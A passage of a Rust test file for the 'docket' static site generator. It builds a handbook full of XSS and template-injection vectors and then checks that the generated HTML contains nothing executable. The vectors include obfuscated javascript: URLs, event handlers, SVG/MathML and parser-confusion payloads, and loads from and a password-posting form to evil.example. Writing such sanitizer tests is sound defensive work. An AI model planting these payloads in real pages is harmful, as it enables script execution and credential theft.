//! The site of a hostile handbook: the project's own attack vectors (beside the
//! shared ones in `../shared/adversarial/`, see `adversarial.rs`), each trying to run
//! script or load something from another site through a page docket builds. Raw HTML
//! and Markdown in bodies (event handlers, `javascript:` in every URL attribute in
//! mixed case, with entities, tabs and line breaks in the scheme, SVG and MathML
//! scripts, `<base>`, meta refresh, CSS `url()` and `expression()`, forms, frames,
//! objects, parser tricks), front-matter values in every kind of document (with
//! `</script>`, quotes and template syntax), the roster, the meetings, the updates,
//! `docket.toml`, and file names.
//!
//! Every script a vector carries sets `window.__pwned` (or its parent's) to the
//! vector's id, or calls `alert`; every load it tries goes to `evil.example`.
//!
//! Two tests look at the built site: one reads every HTML file for anything
//! executable or loading (an `on…` attribute, a `javascript:` URL, a script that is
//! not docket's, a style, a frame, a form that is not the search box, a template
//! expression that was evaluated), and checks the pages' Content-Security-Policy and
//! `_headers`; the other opens every page in headless Chromium, from `file://` and
//! over HTTP, and fails on a dialog, a `window.__pwned`, a request to another site
//! or a policy violation (`tests/browser/hostile.test.mjs`; it needs what
//! `browser.rs` needs, see `common::browser`).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stdout)]

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use common::Repo;

/// A word in the title of every hostile document, for the search box.
const SEARCH_WORD: &str = "xssvector";

/// The script every vector tries to run: marks the page with the vector's id.
fn pwn(id: &str) -> String {
    format!("window.__pwned='{id}'")
}

/// `s` as a YAML single-quoted scalar.
fn yq(s: &str) -> String {
    format!("'{}'", s.replace('\'', "''"))
}

/// One attack: its id, what it tries, and the files that carry it.
struct Vector {
    id: &'static str,
    what: &'static str,
    files: Vec<(String, String)>,
}

/// A free page whose body is `body`.
fn page(id: &'static str, what: &'static str, body: String) -> Vector {
    let text = format!("---\ntitle: Vector {id} {SEARCH_WORD}\n---\n\n{body}\n");
    Vector {
        id,
        what,
        files: vec![(format!("docs/hostile/{id}.md"), text)],
    }
}

/// The vectors. Ids: `b` in a body, `f` in front matter and data files, `n` in a
/// file name.
fn vectors() -> Vec<Vector> {
    let p = pwn;
    let mut v = vec![
        page("b01", "a script element", format!("<script>{}</script>\n\nText after.", p("b01"))),
        page(
            "b02",
            "an image's onerror",
            format!(r#"<img src="x" onerror="{}"> and <IMG SRC=x OnErRoR=alert('b02')>"#, p("b02")),
        ),
        page(
            "b03",
            "event handlers that fire by themselves or on a touch",
            format!(
                r#"<div onmouseover="{0}" onclick="{0}" onfocus="{0}" tabindex="0" autofocus>hover</div>
<body onload="{0}"></body>
<details open ontoggle="{0}"><summary>s</summary>d</details>
<input autofocus onfocus="{0}">
<marquee onstart="{0}">m</marquee>
<video><source onerror="{0}"></video>
<p onanimationstart="{0}" onpointerover="alert('b03')">p</p>"#,
                p("b03")
            ),
        ),
        page(
            "b04",
            "javascript: in a link, in mixed case",
            format!(
                r#"<a href="JaVaScRiPt:{0}">a</a> <a href="javascript:alert('b04')">b</a> <a href='JAVASCRIPT:{0}'>c</a> <a href=javascript:{0}>d</a>"#,
                p("b04")
            ),
        ),
        page(
            "b05",
            "javascript: spelled with HTML entities",
            format!(
                r#"<a href="&#106;&#x61;vascript&colon;{0}">a</a> <a href="jav&#x09;ascript:{0}">b</a> <a href="jav&NewLine;ascript:{0}">c</a> <a href="&#0000106avascript:{0}">d</a> <a href="javascript&#58;alert('b05')">e</a>"#,
                p("b05")
            ),
        ),
        page(
            "b06",
            "javascript: with a tab, a line break or control characters in the scheme",
            format!(
                "<a href=\"java\tscript:{0}\">a</a> <a href=\"java\nscript:{0}\">b</a> <a href=\" \u{1}javascript:{0}\">c</a> <a href=\"\u{0b}javascript:alert('b06')\">d</a>",
                p("b06")
            ),
        ),
        page(
            "b07",
            "vbscript:, data: and other schemes that run script",
            format!(
                r#"<a href="vbscript:msgbox('b07')">a</a> <a href="data:text/html,&lt;script&gt;parent.__pwned='b07'&lt;/script&gt;">b</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnYjA3Jyk8L3NjcmlwdD4=">c</a> <a href="livescript:{0}">d</a>"#,
                p("b07")
            ),
        ),
        page(
            "b08",
            "forms, form actions and button formactions",
            format!(
                r#"<form action="javascript:{0}"><input name="q"><button formaction="javascript:{0}">go</button><input type="submit" formaction="javascript:{0}"><input type="image" src="javascript:{0}"></form>
<form action="https://evil.example/steal" method="post"><input type="password" name="p"><button>Sign in</button></form>
<button form="f" formaction="javascript:{0}">outside</button>"#,
                p("b08")
            ),
        ),
        page(
            "b09",
            "frames: srcdoc, a javascript: src, framesets",
            format!(
                r#"<iframe srcdoc="&lt;script&gt;parent.__pwned='b09'&lt;/script&gt;"></iframe>
<iframe src="javascript:parent.__pwned='b09'"></iframe>
<iframe src="https://evil.example/frame"></iframe>
<frameset><frame src="javascript:{0}"></frameset>"#,
                p("b09")
            ),
        ),
        page(
            "b10",
            "object, embed and applet",
            format!(
                r#"<object data="javascript:{0}"></object>
<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><param name="src" value="javascript:{0}"></object>
<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nYjEwJzwvc2NyaXB0Pg==">
<applet code="Evil.class" codebase="https://evil.example/"></applet>"#,
                p("b10")
            ),
        ),
        page(
            "b11",
            "SVG: onload, script, xlink:href, animation and foreignObject",
            format!(
                r#"<svg onload="{0}" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<script>{0}</script>
<script xlink:href="data:text/javascript,{0}"></script>
<a xlink:href="javascript:{0}"><text x="0" y="20">x</text></a>
<animate onbegin="{0}" attributeName="x" dur="1s"/>
<set attributeName="onmouseover" to="{0}"/>
<animate attributeName="href" values="javascript:{0}"/>
<foreignObject><img src="x" onerror="{0}"></foreignObject>
<use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJyBvbmxvYWQ9J2FsZXJ0KDEpJy8+#x"/>
<image href="https://evil.example/svg-image.png"/>
</svg>"#,
                p("b11")
            ),
        ),
        page(
            "b12",
            "MathML: links, actions and namespace confusion",
            format!(
                r#"<math href="javascript:{0}"><mi>x</mi></math>
<math><maction actiontype="statusline" xlink:href="javascript:{0}">y</maction></math>
<math><mtext><table><mglyph><style><img src="x" onerror="{0}"></style></mglyph></table></mtext></math>
<math><mi xlink:href="data:x,<script>alert('b12')</script>">z</mi></math>"#,
                p("b12")
            ),
        ),
        page(
            "b13",
            "a base element that would send every relative address elsewhere",
            r#"<base href="https://evil.example/"><base target="_blank">

![relative](relative.png) [relative link](other.html)"#
                .to_string(),
        ),
        page(
            "b14",
            "meta refresh to javascript: and to another site",
            format!(
                r#"<meta http-equiv="refresh" content="0;url=javascript:{0}">
<meta http-equiv="refresh" content="0; URL='https://evil.example/refresh'">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<meta http-equiv="set-cookie" content="pwned=b14">"#,
                p("b14")
            ),
        ),
        page(
            "b15",
            "CSS url() and expression() in style attributes",
            format!(
                r#"<div style="background:url(https://evil.example/b15.png)">a</div>
<p style="width: expression({0})">b</p>
<span style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#b)">c</span>
<table><tr><td style="background-image: url('javascript:{0}')">d</td></tr></table>
<div style="background:&#117;rl(https://evil.example/entity.png)">e</div>"#,
                p("b15")
            ),
        ),
        page(
            "b16",
            "style elements and style sheets from another site",
            r#"<style>@import url(https://evil.example/b16.css); body { background: url("https://evil.example/b16.png") }</style>
<link rel="stylesheet" href="https://evil.example/b16.css">
<link rel="import" href="https://evil.example/b16.html">
<link rel="preload" as="script" href="https://evil.example/b16.js">
<svg><style>* { fill: url(https://evil.example/svg.png) }</style></svg>"#
                .to_string(),
        ),
        page(
            "b17",
            "media from another site: poster, srcset, sources, backgrounds",
            format!(
                r#"<video poster="javascript:{0}" src="https://evil.example/v.mp4"><source src="https://evil.example/v.webm"><track src="https://evil.example/t.vtt"></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<img srcset="https://evil.example/b17.png 1x, javascript:{0} 2x" alt="srcset">
<img src="https://evil.example/b17.gif" alt="tracking pixel">
<picture><source srcset="https://evil.example/p.webp"><img src="p.png" alt="picture"></picture>
<table background="https://evil.example/t.png"><tr><td>t</td></tr></table>
<img src="//evil.example/protocol-relative.png" alt="protocol-relative">
<img src="/\evil.example/backslash.png" alt="backslash">
<input type="image" src="https://evil.example/input.png">"#,
                p("b17")
            ),
        ),
        page(
            "b18",
            "parser tricks: noscript, comments, xmp, textarea, template, CDATA",
            format!(
                r#"<noscript><p title="</noscript><img src=x onerror={0}>"></p></noscript>
<!--><img src=x onerror={0}>-->
<xmp><img src=x onerror={0}></xmp>
<textarea><img src=x onerror={0}></textarea>
<template><img src=x onerror={0}></template>
<![CDATA[><img src=x onerror={0}>]]>
<svg></p><style><a id="</style><img src=1 onerror={0}>">
<title><img src=x onerror={0}></title>
<plaintext><img src=x onerror={0}>"#,
                p("b18")
            ),
        ),
        page(
            "b19",
            "Markdown links to javascript:, vbscript: and data:",
            format!(
                "[a](javascript:{0}) [b](JAVASCRIPT:{0}) [c](javascript&#58;{0}) [d](&#x6A;avascript:{0}) [e](<javascript:{0}>) [f](vbscript:msgbox) [g](data:text/html,x) [h](java&#x09;script:{0}) [i]( javascript:{0})",
                p("b19")
            ),
        ),
        page(
            "b20",
            "Markdown images: script schemes and other sites",
            format!(
                "![a](javascript:{0}) ![b](https://evil.example/b20.png) ![](//evil.example/c.png) ![d](data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E) ![e](/\\evil.example/e.png) ![f](HTTPS://EVIL.EXAMPLE/F.PNG \"t\")",
                p("b20")
            ),
        ),
        page(
            "b21",
            "reference definitions",
            format!(
                "[x][r1], ![y][r2], [z][r3] and [w]\n\n[r1]: javascript:{0}\n[r2]: https://evil.example/b21.png \"title\"\n[r3]: <JavaScript:{0}> 'title'\n[w]: vbscript:msgbox",
                p("b21")
            ),
        ),
        page(
            "b22",
            "autolinks",
            format!(
                "<javascript:{0}> <JAVASCRIPT:alert('b22')> <vbscript:msgbox> <data:text/html,x> <https://evil.example/autolink> <mail@evil.example>",
                p("b22")
            ),
        ),
        page(
            "b23",
            "raw HTML, links and images in headings",
            format!(
                "## <img src=\"x\" onerror=\"{0}\"> raw HTML in a heading\n\n## [a link](javascript:{0}) in a heading\n\n### ![an image](https://evil.example/heading.png) in a heading\n\nSetext with a link [x](JavaScript:{0})\n---------------------------------------",
                p("b23")
            ),
        ),
        page(
            "b29",
            "links and images in headings of a document without raw HTML (no sanitizer pass)",
            format!(
                "## [a link](javascript:{0}) in a heading\n\n### ![an image](https://evil.example/b29.png) in a heading\n\n#### [ref][r] and <JavaScript:alert('b29')>\n\n[r]: javascript:{0}",
                p("b29")
            ),
        ),
        page(
            "b24",
            "link and image titles that try to close their attribute",
            format!(
                "[t](https://a.example \"x\\\" onmouseover=\\\"{0}\") [u](a.md 'y\\' onclick=\\'{0}\\'') ![v](a.png \"z\\\" onerror=\\\"{0}\")",
                p("b24")
            ),
        ),
        page(
            "b25",
            "template syntax in a body",
            "{{ 7*191 }} {% for x in [1, 2] %}loopran{% endfor %} {{ \"tpl\" ~ \"ran\" }} {# comment #} {{ site }} {% include \"base.html\" %}"
                .to_string(),
        ),
        page(
            "b26",
            "footnotes and aligned tables",
            format!(
                "A note.[^1]\n\n[^1]: <script>{0}</script> <img src=x onerror=\"{0}\">\n\n| a | b |\n|:-:|--:|\n| <img src=x onerror=\"{0}\"> | <a href=\"javascript:{0}\">2</a> |\n",
                p("b26")
            ),
        ),
        page(
            "b27",
            "escaped and encoded script as text",
            format!(
                "&lt;script&gt;{0}&lt;/script&gt; \\<script>{0}\\</script> `<script>{0}</script>`\n\n```html\n<script>{0}</script>\n```",
                p("b27")
            ),
        ),
        page(
            "b28",
            "task lists and inputs",
            format!(
                "- [x] <input type=\"checkbox\" onclick=\"{0}\" checked> done\n- [ ] <button onclick=\"{0}\">todo</button>",
                p("b28")
            ),
        ),
    ];
    v.extend(front_matter_vectors());
    v.extend(file_name_vectors());
    v
}

fn front_matter_vectors() -> Vec<Vector> {
    let p = pwn;
    let script = |id: &str| format!("</title></script><script>{}</script>", p(id));
    let img = |id: &str| format!("\"><img src=x onerror=\"{}\">'", p(id));
    let decision = |n: u32, name: &str, keys: &[(&str, String)], body: &str| {
        let mut fm = String::from("---\n");
        for (k, value) in keys {
            fm.push_str(&format!("{k}: {value}\n"));
        }
        fm.push_str("---\n\n");
        fm.push_str(body);
        (format!("docs/decisions/{n:04}-{name}.md"), fm)
    };
    vec![
        Vector {
            id: "f01",
            what: "</title></script> and markup in a decision's title",
            files: vec![decision(
                1,
                "title",
                &[
                    (
                        "title",
                        yq(&format!("{} {} {SEARCH_WORD}", script("f01"), img("f01"))),
                    ),
                    ("status", "proposed".into()),
                    ("owner", "alice".into()),
                    ("date", "2026-11-20".into()),
                    ("deadline", "2026-12-01".into()),
                ],
                "## Context\n\nA decision whose title tries to break out.\n",
            )],
        },
        Vector {
            id: "f02",
            what: "quotes and markup in owner, deciders, consulted and informed",
            files: vec![decision(
                2,
                "people",
                &[
                    ("title", format!("Quotes in people {SEARCH_WORD}")),
                    ("status", "proposed".into()),
                    ("owner", yq(&img("f02"))),
                    ("deciders", format!("[{}]", yq(&script("f02")))),
                    ("consulted", format!("[{}, alice]", yq(&img("f02")))),
                    ("informed", format!("[{}]", yq("javascript:alert('f02')"))),
                    ("date", "2026-11-20".into()),
                    ("deadline", "2026-12-01".into()),
                ],
                "Body.\n",
            )],
        },
        Vector {
            id: "f03",
            what: "tags that are markup, attribute breakers, javascript: and template syntax",
            files: vec![decision(
                3,
                "tags",
                &[
                    ("title", format!("Hostile tags {SEARCH_WORD}")),
                    ("status", "accepted".into()),
                    ("owner", "alice".into()),
                    ("date", "2026-11-20".into()),
                    ("decided", "2026-11-21".into()),
                    (
                        "tags",
                        format!(
                            "[{}, {}, {}, {}, {}]",
                            yq(&format!("<script>{}</script>", p("f03"))),
                            yq(&format!("\" onmouseover=\"{}", p("f03"))),
                            yq(&format!("javascript:{}", p("f03"))),
                            yq("{{ 7*191 }}"),
                            yq("' autofocus onfocus='alert(1)")
                        ),
                    ),
                ],
                "Body.\n",
            )],
        },
        Vector {
            id: "f04",
            what: "a status that tries to add attributes to its badge and row",
            files: vec![decision(
                4,
                "status",
                &[
                    ("title", format!("Hostile status {SEARCH_WORD}")),
                    (
                        "status",
                        yq(&format!(
                            "accepted\" autofocus onfocus=\"{}\" x=\"",
                            p("f04")
                        )),
                    ),
                    ("owner", "alice".into()),
                    ("date", "2026-11-20".into()),
                ],
                "Body.\n",
            )],
        },
        Vector {
            id: "f05",
            what: "an outcome with a frame, options with markup and </script>",
            files: vec![decision(
                5,
                "outcome",
                &[
                    ("title", format!("Hostile outcome {SEARCH_WORD}")),
                    ("status", "accepted".into()),
                    ("owner", "alice".into()),
                    ("date", "2026-11-20".into()),
                    ("decided", "2026-11-21".into()),
                    (
                        "outcome",
                        yq(&format!(
                            "</p><iframe srcdoc=\"<script>parent.__pwned='f05'</script>\"></iframe>{}",
                            img("f05")
                        )),
                    ),
                    (
                        "options",
                        format!(
                            "\n  - name: {}\n    pros: [{}]\n    cons: [{}]\n  - name: {}",
                            yq(&img("f05")),
                            yq(&script("f05")),
                            yq("{{ \"tpl\" ~ \"ran\" }}"),
                            yq("<svg onload=alert('f05')>")
                        ),
                    ),
                ],
                "Body.\n",
            )],
        },
        Vector {
            id: "f06",
            what: "template syntax in every field of a decision",
            files: vec![decision(
                6,
                "template",
                &[
                    (
                        "title",
                        yq(&format!(
                            "{{{{ 7*191 }}}} {{{{ \"tpl\" ~ \"ran\" }}}} {SEARCH_WORD}"
                        )),
                    ),
                    ("status", yq("{% for x in [1, 2] %}loopran{% endfor %}")),
                    ("owner", yq("{{ site.title }}")),
                    ("date", "2026-11-20".into()),
                    ("deadline", "2026-12-01".into()),
                    ("outcome", yq("{{ 7*191 }}{% raw %}")),
                    (
                        "tags",
                        format!("[{}]", yq("{% for x in [1, 2] %}loopran{% endfor %}")),
                    ),
                ],
                "{{ \"tpl\" ~ \"ran\" }}\n",
            )],
        },
        Vector {
            id: "f07",
            what: "a free page's description and title with </script> and template syntax",
            files: vec![(
                "docs/hostile/f07.md".into(),
                format!(
                    "---\ntitle: {}\ndescription: {}\nowner: {}\n---\n\nBody.\n",
                    yq(&format!("{{% raw %}}{} {SEARCH_WORD}", script("f07"))),
                    yq(&format!(
                        "</script><script>{}</script>{{{{ 7*191 }}}}",
                        p("f07")
                    )),
                    yq(&img("f07"))
                ),
            )],
        },
        Vector {
            id: "f08",
            what: "a brief's title, owner and status",
            files: vec![(
                "docs/briefs/hostile.md".into(),
                format!(
                    "---\ntitle: {}\nowner: {}\ndeadline: 2026-12-15\nstatus: {}\nestimate: 4\n---\n\n## Context\n\nx\n\n## Expected output\n\ny\n\n## Acceptance criteria\n\n- z\n",
                    yq(&format!("{} {SEARCH_WORD}", script("f08"))),
                    yq(&img("f08")),
                    yq(&format!("active\" onmouseover=\"{}", p("f08")))
                ),
            )],
        },
        Vector {
            id: "f09",
            what: "the roster: markup in name, role, team, time zone, handle and hours",
            files: vec![(
                "docs/people.yaml".into(),
                format!(
                    "- id: alice\n  name: Alice Ng\n  timezone: Europe/Berlin\n- id: bob\n  name: Bob Okafor\n  timezone: America/Toronto\n- id: mallory\n  name: {}\n  role: {}\n  team: {}\n  timezone: {}\n  handle: {}\n  hours: {}\n- id: {}\n  name: Trudy\n  timezone: Asia/Tokyo\n",
                    yq(&img("f09")),
                    yq("{{ 7*191 }}"),
                    yq(&script("f09")),
                    yq(&format!("\"><svg onload=\"{}\">", p("f09"))),
                    yq(&format!("javascript:{}", p("f09"))),
                    yq("\"><img src=x onerror=alert('f09')>"),
                    yq("trudy\" onmouseover=\"alert('f09')")
                ),
            )],
        },
        Vector {
            id: "f10",
            what: "the meeting inventory: markup in names, categories and attendees",
            files: vec![(
                "docs/meetings.yaml".into(),
                format!(
                    "- name: {}\n  category: {}\n  cadence: weekly\n  duration: 25\n  attendees: [alice, mallory, {}]\n  agenda: true\n",
                    yq(&script("f10")),
                    yq(&img("f10")),
                    yq("{{ 7*191 }}")
                ),
            )],
        },
        Vector {
            id: "f11",
            what: "an update whose Done, Next and Blocker lines are markup",
            files: vec![(
                "docs/updates/2026-11-23/mallory.md".into(),
                format!(
                    "Done: <img src=x onerror=\"{0}\">\nNext: {{{{ 7*191 }}}} [x](javascript:{0})\nBlocker: <script>{0}</script> {1}\n",
                    p("f11"),
                    SEARCH_WORD
                ),
            )],
        },
        Vector {
            id: "f12",
            what: "the charter's title and owner",
            files: vec![(
                "docs/charter.md".into(),
                format!(
                    "---\ntitle: {}\nowner: {}\nreviewed: 2026-11-01\nresponse_time: 4h\ndecision_deadline: 48h\nfocus_block: 4h\n---\n\n## What requires a meeting\n\nx\n\n## Response times\n\nx\n\n## Where communication lives\n\nx\n\n## Escalation\n\nx\n",
                    yq(&format!("{} {SEARCH_WORD}", script("f12"))),
                    yq(&img("f12"))
                ),
            )],
        },
        Vector {
            id: "f13",
            what: "a facet value that tries to close the index row's single-quoted JSON attribute",
            files: vec![(
                "docs/proposals/prop-1.md".into(),
                format!(
                    "---\nprop: 1\ntitle: {}\nstatus: Draft\ntype: {}\nauthor: alice\ncreated: 2026-11-20\n---\n\nBody.\n",
                    yq(&format!("Facets {SEARCH_WORD}")),
                    yq(&format!("'><img src=x onerror=\"{}\">", p("f13")))
                ),
            )],
        },
        Vector {
            id: "f14",
            what: "docket.toml: the site's title and a kind's title",
            files: vec![(
                "docket.toml".into(),
                format!(
                    "root = \"docs\"\n\n[site]\ntitle = {}\n\n[kinds.proposal]\npath = \"proposals\"\ntitle = {}\nid = \"prop\"\nfields.owner = \"author\"\nfields.date = \"created\"\nstatuses.open = [\"Draft\"]\nstatuses.decided = [\"Final\"]\nfacets = [\"type\"]\n",
                    toml_string(&format!("{} {{{{ 7*191 }}}}", script("f14"))),
                    toml_string(&img("f14"))
                ),
            )],
        },
    ]
}

/// `s` as a TOML literal-free basic string.
fn toml_string(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

fn file_name_vectors() -> Vec<Vector> {
    let named = |id: &'static str, what: &'static str, path: &str| Vector {
        id,
        what,
        files: vec![(
            path.to_string(),
            format!("A page whose file name is hostile ({id}, {SEARCH_WORD}).\n"),
        )],
    };
    vec![
        named(
            "n01",
            "template syntax in a file name",
            "docs/hostile/{{ 7*191 }}.md",
        ),
        named(
            "n02",
            "markup and quotes in a file name",
            "docs/hostile/\"><img src=x onerror=alert('n02')>.md",
        ),
        named(
            "n03",
            "a file name that is a javascript: URL, at the handbook root (where links have no folder before them)",
            "docs/javascript:window.__pwned='n03'.md",
        ),
        named(
            "n04",
            "a template statement in a folder name",
            "docs/{% for x in [1, 2] %}loopran{% endfor %}/page.md",
        ),
        Vector {
            id: "n05",
            what: "a decision file name that breaks out of attributes",
            files: vec![(
                "docs/decisions/0007-\" onmouseover=\"alert('n05').md".into(),
                format!(
                    "---\ntitle: Named {SEARCH_WORD}\nstatus: proposed\nowner: alice\ndate: 2026-11-20\ndeadline: 2026-12-01\n---\n\nBody.\n"
                ),
            )],
        },
    ]
}

/// The hostile handbook, committed, and its site built into `site/` (with a base
/// URL when given). Returns the repository and the site's folder.
fn build_site(base_url: Option<&str>) -> (Repo, PathBuf) {
    let repo = Repo::new();
    repo.write_all(&[(
        "docs/updates/2026-11-23/alice.md",
        "Done: x\nNext: y\nBlocker: none\n",
    )]);
    for v in vectors() {
        for (path, text) in &v.files {
            repo.write(path, text);
        }
    }
    repo.commit("A hostile handbook");
    let site = repo.path().join("site");
    let mut docket = repo
        .docket()
        .args(["build", repo.path().to_str().unwrap(), "--out"])
        .args([site.to_str().unwrap()]);
    if let Some(base) = base_url {
        docket = docket.args(["--base-url", base]);
    }
    let run = docket.run();
    assert!(
        site.join("index.html").is_file(),
        "`docket build` wrote no site\n{run}"
    );
    (repo, site)
}

/// Every file under `dir`, relative to it.
fn files_under(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let rel = path.strip_prefix(dir).unwrap().to_string_lossy();
                out.push(rel.into_owned());
            }
        }
    }
    out.sort();
    out
}

// ------------------------------------------------------------------ HTML reading

/// An element's start tag: its name (lowercase) and attributes (names lowercase,
/// values with character references decoded).
#[derive(Debug)]
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
}

impl Tag {
    fn attr(&self, name: &str) -> Option<&str> {
        self.attrs
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }
}

/// The start tags of `html`, as an HTML tokenizer reads them: comments and doctype
/// skipped, the contents of `script`, `style`, `textarea`, `title` and `xmp` read as
/// text.
fn start_tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(lt) = rest.find('<') {
        rest = &rest[lt..];
        if let Some(after) = rest.strip_prefix("<!--") {
            rest = after.find("-->").map_or("", |e| &after[e + 3..]);
            continue;
        }
        if rest.starts_with("<!") || rest.starts_with("<?") || rest.starts_with("</") {
            rest = rest.find('>').map_or("", |e| &rest[e + 1..]);
            continue;
        }
        let body = &rest[1..];
        let name_len = body
            .find(|c: char| c.is_ascii_whitespace() || c == '>' || c == '/')
            .unwrap_or(body.len());
        let name = body[..name_len].to_ascii_lowercase();
        if name.is_empty() || !name.starts_with(|c: char| c.is_ascii_alphabetic()) {
            rest = body;
            continue;
        }
        let (attrs, consumed) = attributes(&body[name_len..]);
        rest = &body[name_len + consumed..];
        if matches!(
            name.as_str(),
            "script" | "style" | "textarea" | "title" | "xmp"
        ) {
            let close = format!("</{name}");
            let lower = rest.to_ascii_lowercase();
            rest = lower.find(&close).map_or("", |e| &rest[e..]);
        }
        tags.push(Tag { name, attrs });
    }
    tags
}

/// The attributes at the start of `s` (after a tag's name) up to the closing `>`,
/// and how many bytes they took.
fn attributes(s: &str) -> (Vec<(String, String)>, usize) {
    let bytes = s.as_bytes();
    let mut attrs = Vec::new();
    let mut i = 0;
    loop {
        while i < bytes.len() && (bytes[i].is_ascii_whitespace() || bytes[i] == b'/') {
            i += 1;
        }
        if i >= bytes.len() {
            return (attrs, i);
        }
        if bytes[i] == b'>' {
            return (attrs, i + 1);
        }
        let start = i;
        while i < bytes.len()
            && !bytes[i].is_ascii_whitespace()
            && !matches!(bytes[i], b'=' | b'>' | b'/')
        {
            i += 1;
        }
        let name = s[start..i].to_ascii_lowercase();
        while i < bytes.len() && bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        let mut value = String::new();
        if i < bytes.len() && bytes[i] == b'=' {
            i += 1;
            while i < bytes.len() && bytes[i].is_ascii_whitespace() {
                i += 1;
            }
            if i < bytes.len() && (bytes[i] == b'"' || bytes[i] == b'\'') {
                let quote = bytes[i];
                let end = s[i + 1..]
                    .find(quote as char)
                    .map_or(s.len(), |e| i + 1 + e);
                value = decode(&s[i + 1..end]);
                i = (end + 1).min(s.len());
            } else {
                let start = i;
                while i < bytes.len() && !bytes[i].is_ascii_whitespace() && bytes[i] != b'>' {
                    i += 1;
                }
                value = decode(&s[start..i]);
            }
        }
        attrs.push((name, value));
    }
}

/// `s` with its character references decoded (the numeric ones, and the named ones
/// an escaper writes or an attacker uses for a scheme).
fn decode(s: &str) -> String {
    let named: BTreeMap<&str, char> = [
        ("amp", '&'),
        ("lt", '<'),
        ("gt", '>'),
        ("quot", '"'),
        ("apos", '\''),
        ("colon", ':'),
        ("tab", '\t'),
        ("newline", '\n'),
        ("nbsp", '\u{a0}'),
        ("sol", '/'),
        ("lpar", '('),
        ("rpar", ')'),
    ]
    .into_iter()
    .collect();
    let mut out = String::new();
    let mut rest = s;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        rest = &rest[amp + 1..];
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
            .unwrap_or(rest.len());
        let entity = &rest[..end];
        let decoded = if let Some(num) = entity
            .strip_prefix("#x")
            .or_else(|| entity.strip_prefix("#X"))
        {
            u32::from_str_radix(num, 16).ok().and_then(char::from_u32)
        } else if let Some(num) = entity.strip_prefix('#') {
            num.parse().ok().and_then(char::from_u32)
        } else {
            named.get(entity.to_ascii_lowercase().as_str()).copied()
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = rest[end..].strip_prefix(';').unwrap_or(&rest[end..]);
            }
            None => out.push('&'),
        }
    }
    out.push_str(rest);
    out
}

/// A URL as a browser reads its scheme: leading spaces and control characters
/// dropped, tabs and line breaks removed, lowercase.
fn url_as_read(value: &str) -> String {
    value
        .trim_start_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .to_ascii_lowercase()
}

/// Whether a browser asks another site for `value` when it loads it.
fn leaves_the_site(value: &str) -> bool {
    let v = url_as_read(value).replace('\\', "/");
    v.starts_with("//")
        || v.find(':')
            .is_some_and(|colon| !v[..colon].contains(['/', '?', '#']))
}

/// Attributes whose value a browser reads as a URL.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "xlink:href",
    "srcset",
    "background",
    "cite",
    "longdesc",
    "ping",
    "manifest",
    "codebase",
    "lowsrc",
    "dynsrc",
    "icon",
    "profile",
    "usemap",
    "archive",
    "classid",
];

/// Attributes whose URL a browser loads by itself (rather than on a click).
const LOADED: &[&str] = &[
    "src",
    "poster",
    "data",
    "srcset",
    "background",
    "lowsrc",
    "dynsrc",
    "icon",
    "manifest",
    "codebase",
    "archive",
    "classid",
    "xlink:href",
];

/// Elements a page may hold, and nothing else may: docket's templates, Markdown's
/// output and what the sanitizer keeps.
fn allowed(tag: &Tag) -> Result<(), String> {
    match tag.name.as_str() {
        "script" => match tag.attr("src") {
            Some(src) if src.ends_with("assets/docket.js") && tag.attrs.len() <= 2 => Ok(()),
            _ => Err("a script that is not docket's".into()),
        },
        "meta" => match tag.attr("http-equiv").map(str::to_ascii_lowercase) {
            None => Ok(()),
            Some(e) if e == "content-security-policy" => Ok(()),
            Some(e) => Err(format!("a <meta http-equiv=\"{e}\">")),
        },
        "link" => match tag.attr("rel") {
            Some("stylesheet" | "alternate") => Ok(()),
            _ => Err("a <link> that is not the style sheet or the feed".into()),
        },
        "form" => match tag.attr("action") {
            Some(a) if a.ends_with("search.html") && tag.attr("class") == Some("search") => Ok(()),
            _ => Err("a form that is not the search box".into()),
        },
        "input" => match tag.attr("type") {
            Some("search") => Ok(()),
            _ => Err("an input that is not a search box".into()),
        },
        "style" | "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "base"
        | "math" | "animate" | "set" | "animatetransform" | "animatemotion" | "foreignobject"
        | "use" | "image" | "video" | "audio" | "source" | "track" | "picture" | "param"
        | "template" | "noscript" | "xmp" | "plaintext" | "textarea" | "marquee" | "handler"
        | "listener" => Err(format!("a <{}> element", tag.name)),
        _ => Ok(()),
    }
}

/// What is executable or loads from elsewhere in one page's `html`.
fn executable(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for tag in start_tags(html) {
        if let Err(why) = allowed(&tag) {
            found.push(why);
        }
        for (name, value) in &tag.attrs {
            let at = || format!("<{} {name}=\"{value}\">", tag.name);
            if name.starts_with("on") {
                found.push(format!("an event handler: {}", at()));
            }
